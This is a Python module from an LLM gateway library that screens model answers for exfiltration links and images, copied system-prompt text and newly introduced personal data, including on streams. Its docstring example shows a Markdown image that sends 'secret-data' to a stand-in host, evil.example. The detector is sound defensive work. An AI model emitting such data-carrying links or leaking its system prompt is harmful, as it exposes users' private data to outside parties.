"""Screening what the model answers (出口の確認): exfiltration links, leaked system prompts,
and personal information that the request did not contain.

- **Exfiltration**: a Markdown or HTML image pointing outside the allowed domains (an
  image loads by itself: whatever its URL carries leaves without a click), and a link or
  bare URL outside them whose query or fragment carries data, or that carries a value
  from the request (percent-encoded or not).
- **System-prompt leakage**: 30 or more consecutive characters copied from a system or
  developer message of the request (found with 16-character shingles, linear time).
- **New personal information**: personal values the detector finds in the answer that do
  not occur in the request (a name, phone number or address the model brought in).

Each is removed (replaced by a short notice), masked, only reported, or not looked for,
as the policy says. :class:`OutputStream` does the same on a stream, holding back at most
a sentence: each sentence (ending in 。！？, a line break or ". ") is screened and released
when complete, a run without a sentence end after ``max_hold`` characters.

>>> s = OutputScreen(OutputRules(), request_text="要約して")
>>> text, found = s.screen("要約です。![x](https://evil.example/p.png?d=secret-data)")
>>> text
'要約です。［外部に情報を送るおそれがある画像・リンクを取り除きました］'
>>> [f.kind for f in found]
['exfiltration']
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal
from urllib.parse import unquote, urlsplit

from hinagata.detect import Detector, default_detector
from hinagata.mask import PLACEHOLDER_LABELS

__all__ = ["OutputFinding", "OutputRules", "OutputScreen", "OutputStream"]

Action = Literal["remove", "report", "off"]
PersonalAction = Literal["mask", "report", "off"]

EXFIL_NOTICE = "［外部に情報を送るおそれがある画像・リンクを取り除きました］"
LEAK_NOTICE = "［システムの設定にあたる内容を取り除きました］"

_MD_LINK = re.compile(
    r"(?P<bang>!?)\[(?P<label>[^\]\n]{0,500})\]\(\s*<?(?P<url>https?://[^\s)>]{1,2000})>?"
    r"(?:\s+\"[^\"\n]{0,200}\")?\s*\)"
)
_HTML_IMG = re.compile(
    r"<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?(?P<url>https?://[^\s\"'>]{1,2000})[^>]{0,500}>",
    re.IGNORECASE,
)
_BARE_URL = re.compile(r"https?://[^\s<>()\[\]「」『』、。\"']{1,2000}")
_SHINGLE = 16
_MIN_LEAK = 30
#: A query or fragment at least this long counts as carrying data.
_DATA_QUERY = 8
_SENTENCE_END = re.compile(r"[。！？\n]|[.!?](?=\s)")


@dataclass(frozen=True)
class OutputRules:
    """What to do with each kind of finding (the policy's ``output`` section)."""

    exfiltration: Action = "remove"
    system_prompt_leak: Action = "remove"
    new_personal: PersonalAction = "mask"
    #: Hosts (and their subdomains) to which images and links are never removed.
    allowed_domains: tuple[str, ...] = ()


@dataclass(frozen=True)
class OutputFinding:
    #: exfiltration | system_prompt_leak | new_personal
    kind: str
    #: Offsets in the answer as the model wrote it (after restoring placeholders).
    start: int
    end: int
    #: removed | masked | reported
    action: str
    #: The host of a link, or the type of a personal value (never the value itself).
    detail: str = ""

    def to_dict(self) -> dict[str, Any]:
        return {
            "kind": self.kind,
            "start": self.start,
            "end": self.end,
            "action": self.action,
            "detail": self.detail,
        }


def _host_allowed(host: str, allowed: Iterable[str]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == d or host.endswith("." + d) for d in allowed)


class OutputScreen:
    """The exit screening of one request's answers (thread-safe: no mutable state)."""

    def __init__(
        self,
        rules: OutputRules,
        *,
        request_text: str = "",
        request_values: Iterable[str] | None = None,
        system_texts: Sequence[str] = (),
        detector: Detector | None = None,
    ) -> None:
        """``request_values``: the personal values of the request (a link carrying one is
        exfiltration); None: found here with the detector (the gateway passes the
        judgment's findings instead of scanning twice)."""
        self.rules = rules
        self._allowed = tuple(d.lower().strip(".") for d in rules.allowed_domains)
        self._request = request_text
        self._request_compact = _compact(request_text)
        if request_values is None:
            request_values = self._values_of(request_text, detector) if request_text else ()
        self._request_values = tuple(v for v in request_values if len(v) >= 4)
        self._shingles: frozenset[str] = frozenset(
            t[i : i + _SHINGLE]
            for t in system_texts
            if len(t) >= _MIN_LEAK
            for i in range(len(t) - _SHINGLE + 1)
        )
        self._detector = detector

    @staticmethod
    def _values_of(text: str, detector: Detector | None) -> tuple[str, ...]:
        found = (detector or default_detector()).scan(text)
        return tuple({f.text for f in found if f.personal and f.type in PLACEHOLDER_LABELS})

    @property
    def alters(self) -> bool:
        """Whether screening may change the text (remove or mask), so a stream must wait."""
        r = self.rules
        return (
            r.exfiltration == "remove"
            or r.system_prompt_leak == "remove"
            or r.new_personal == "mask"
        )

    @property
    def active(self) -> bool:
        r = self.rules
        return (r.exfiltration, r.system_prompt_leak, r.new_personal) != ("off", "off", "off")

    def screen(self, text: str) -> tuple[str, list[OutputFinding]]:
        """The answer with removals and masks applied, and what was found."""
        if not text or not self.active:
            return text, []
        edits: list[tuple[int, int, str]] = []
        found: list[OutputFinding] = []
        if self.rules.exfiltration != "off":
            for s, e, host in self._exfiltration(text):
                act = "removed" if self.rules.exfiltration == "remove" else "reported"
                found.append(OutputFinding("exfiltration", s, e, act, host))
                if act == "removed":
                    edits.append((s, e, EXFIL_NOTICE))
        if self.rules.system_prompt_leak != "off" and self._shingles:
            for s, e in self._leaks(text):
                act = "removed" if self.rules.system_prompt_leak == "remove" else "reported"
                found.append(OutputFinding("system_prompt_leak", s, e, act))
                if act == "removed":
                    edits.append((s, e, LEAK_NOTICE))
        if self.rules.new_personal != "off":
            for f in (self._detector or default_detector()).scan(text):
                if not f.personal or f.type not in PLACEHOLDER_LABELS:
                    continue
                if f.text in self._request or _compact(f.text) in self._request_compact:
                    continue
                act = "masked" if self.rules.new_personal == "mask" else "reported"
                found.append(OutputFinding("new_personal", f.start, f.end, act, f.type))
                if act == "masked":
                    edits.append((f.start, f.end, f"〔{PLACEHOLDER_LABELS[f.type]}〕"))
        return _apply(text, edits), sorted(found, key=lambda f: (f.start, f.end))

    # ------------------------------------------------------------------ exfiltration

    def _exfiltration(self, text: str) -> list[tuple[int, int, str]]:
        out: list[tuple[int, int, str]] = []
        taken: list[tuple[int, int]] = []
        if "](" in text:
            for m in _MD_LINK.finditer(text):
                taken.append(m.span())
                host = self._suspect(m.group("url"), image=bool(m.group("bang")))
                if host is not None:
                    out.append((m.start(), m.end(), host))
        if "<img" in text.lower():
            for m in _HTML_IMG.finditer(text):
                taken.append(m.span())
                host = self._suspect(m.group("url"), image=True)
                if host is not None:
                    out.append((m.start(), m.end(), host))
        if "http" in text:
            for m in _BARE_URL.finditer(text):
                if any(s <= m.start() < e for s, e in taken):
                    continue
                host = self._suspect(m.group(), image=False)
                if host is not None:
                    out.append((m.start(), m.end(), host))
        return out

    def _suspect(self, url: str, *, image: bool) -> str | None:
        """The host if the URL may carry data out, else None."""
        try:
            parts = urlsplit(url)
        except ValueError:
            return "invalid-url"
        host = parts.hostname or ""
        if _host_allowed(host, self._allowed):
            return None
        if image:
            return host
        carried = len(parts.query) + len(parts.fragment)
        if carried >= _DATA_QUERY:
            return host
        decoded = unquote(url)
        if any(v in decoded or _compact(v) in decoded for v in self._request_values):
            return host
        return None

    # ------------------------------------------------------------------ leakage

    def copy_runs_to_end(self, text: str) -> bool:
        """Whether ``text`` ends inside a run copied from a system message."""
        if self.rules.system_prompt_leak == "off" or not self._shingles:
            return False
        runs = self._runs(text)
        return bool(runs) and runs[-1][1] >= len(text) - 2

    def _leaks(self, text: str) -> list[tuple[int, int]]:
        return [(s, e) for s, e in self._runs(text) if e - s >= _MIN_LEAK]

    def _runs(self, text: str) -> list[tuple[int, int]]:
        covered: list[tuple[int, int]] = []
        shingles = self._shingles
        for i in range(len(text) - _SHINGLE + 1):
            if text[i : i + _SHINGLE] in shingles:
                if covered and i <= covered[-1][1]:
                    covered[-1] = (covered[-1][0], i + _SHINGLE)
                else:
                    covered.append((i, i + _SHINGLE))
        return covered


@dataclass
class OutputStream:
    """Exit screening of one streamed answer: text comes out a sentence at a time."""

    screen: OutputScreen
    max_hold: int = 400
    findings: list[OutputFinding] = field(default_factory=list)
    _buf: str = ""
    _offset: int = 0

    def feed(self, piece: str) -> str:
        """Text released by this piece: every complete sentence, each screened on its own
        (so the result does not depend on how the stream was cut into pieces)."""
        if not self.screen.active:
            return piece
        self._buf += piece
        out: list[str] = []
        while self._buf:
            cut = self._next_cut(self._buf)
            if cut is None:
                break
            out.append(self._release(cut))
        if not self.screen.alters:
            # Report-only: nothing can change, so nothing waits; sentences are still
            # screened (above) for the record.
            return piece
        return "".join(out)

    def _next_cut(self, buf: str) -> int | None:
        """Where the next releasable piece ends; None: wait for more text."""
        pos = 0
        while True:
            m = _SENTENCE_END.search(buf, pos)
            if m is None or m.end() > self.max_hold:
                return _safe_cut(buf, self.max_hold) if len(buf) >= self.max_hold else None
            cut = m.end()
            if not self.screen.copy_runs_to_end(buf[:cut]):
                return cut
            # A copy of the system prompt may go on into the next sentence: take that too,
            # so that the copy is judged (and removed) as a whole.
            pos = cut

    def flush(self) -> str:
        out = self._release(len(self._buf)) if self._buf else ""
        return "" if not self.screen.alters else out

    @property
    def pending(self) -> bool:
        return bool(self._buf)

    def _release(self, cut: int) -> str:
        seg, self._buf = self._buf[:cut], self._buf[cut:]
        out, found = self.screen.screen(seg)
        self.findings += [
            OutputFinding(f.kind, f.start + self._offset, f.end + self._offset, f.action, f.detail)
            for f in found
        ]
        self._offset += len(seg)
        return out


#: Characters a personal value is written with (digits of any script, Latin letters and
#: the signs of numbers and addresses, kanji, katakana): a long run is never cut inside a
#: stretch of them, or a value crossing the cut would be screened in two halves.
_VALUE_CHAR = re.compile(
    r"[0-9A-Za-z@._+\-‐－ー()（）\u3400-\u4dbf\u4e00-\u9fff\u30a0-\u30ff\uff10-\uff5a\u3005〇]"
)
#: The longest value a cut backs off for; a longer stretch is cut where it must be.
_VALUE_MAX = 80


def _safe_cut(buf: str, limit: int) -> int:
    """Where to cut a long run without a sentence end, at most ``limit``: before a link or
    URL that may not be complete yet, else at the last space, else everywhere — and never
    inside a stretch of value characters that goes on past the cut."""
    head = buf[:limit]
    window = head[-300:]
    base = len(head) - len(window)
    starts = [window.rfind(tok) for tok in ("![", "[", "<img", "http")]
    starts = [s for s in starts if s > 0]
    if starts:
        cut = base + min(starts)
    else:
        space = max(head.rfind(" "), head.rfind("、"), head.rfind("\u3000"))
        cut = space + 1 if space > 0 else len(head)
    if 0 < cut < len(buf) and _VALUE_CHAR.match(buf, cut) and _VALUE_CHAR.match(buf, cut - 1):
        back = cut
        while back > 0 and cut - back < _VALUE_MAX and _VALUE_CHAR.match(buf, back - 1):
            back -= 1
        if back > 0 and cut - back < _VALUE_MAX:
            cut = back
    return cut


def _compact(s: str) -> str:
    return re.sub(r"[\s\u3000\-‐－ー()（）]", "", s)


def _apply(text: str, edits: list[tuple[int, int, str]]) -> str:
    """Replace non-overlapping spans (the earliest, then the longest, wins)."""
    if not edits:
        return text
    out: list[str] = []
    pos = 0
    for s, e, rep in sorted(edits, key=lambda x: (x[0], -(x[1] - x[0]))):
        if s < pos:
            continue
        out += [text[pos:s], rep]
        pos = e
    out.append(text[pos:])
    return "".join(out)
